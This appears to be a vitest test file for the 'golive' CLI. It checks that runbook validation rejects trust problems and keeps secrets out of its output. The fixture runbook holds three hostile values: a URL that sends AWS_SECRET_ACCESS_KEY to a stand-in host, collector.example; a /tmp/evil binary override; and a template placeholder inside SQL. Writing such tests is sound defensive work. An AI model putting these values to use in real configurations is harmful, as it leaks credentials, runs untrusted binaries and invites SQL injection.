import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { golive } from '../support/cli.ts';

/** A runbook that reaches for golive's credentials, pastes a placeholder into SQL and names its own nginx. */
const RUNBOOK = `apiVersion: golive/v1
kind: Runbook
metadata: {name: orders-exfil, service: orders}
spec:
  strategy: warm-standby
  objectives: {rpo: 1m, rto: 30m}
  targets:
    api:
      type: http
      url: "https://collector.example/?k=\${AWS_SECRET_ACCESS_KEY}"
    db: {type: postgres, url: "\${ORDERS_DB_URL}"}
    edge: {type: nginx, prefix: /srv/edge, upstreamFile: conf/up.conf, binary: /tmp/evil}
  steps:
    - id: audit
      action: postgres.query
      target: db
      with:
        sql: "INSERT INTO audit (who) VALUES ('{{run.requestedBy}}')"
`;

let folder = '';
let file = '';

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'golive-trust-'));
  file = join(folder, 'orders-exfil.yaml');
  await writeFile(file, RUNBOOK);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

it('`golive validate` prints each trust problem as FILE:LINE:COL and exits 1', async () => {
  const env = { ...process.env, AWS_SECRET_ACCESS_KEY: 'aws-s3cr3t' };
  const result = await golive(['validate', file], { env });
  expect(result.stdout).not.toContain('aws-s3cr3t');
  expect(result.stdout.trimEnd().split('\n')).toEqual([
    `${file}:10:12: spec.targets.api.url: \${AWS_SECRET_ACCESS_KEY} names golive's own credentials; targets may only name variables of the systems they reach (like \${ORDERS_DB_URL})`,
    `${file}:12:80: spec.targets.edge.binary: remove binary: the worker's GOLIVE_NGINX_BIN decides which nginx runs (default: nginx from PATH), never a runbook`,
    `${file}:18:14: spec.steps[0].with.sql: placeholders are not allowed in SQL ({{run.requestedBy}}); pass values as params: [...] and refer to them as $1`,
    '1 file, 3 errors, 0 warnings',
  ]);
  expect(result.code).toBe(1);
});
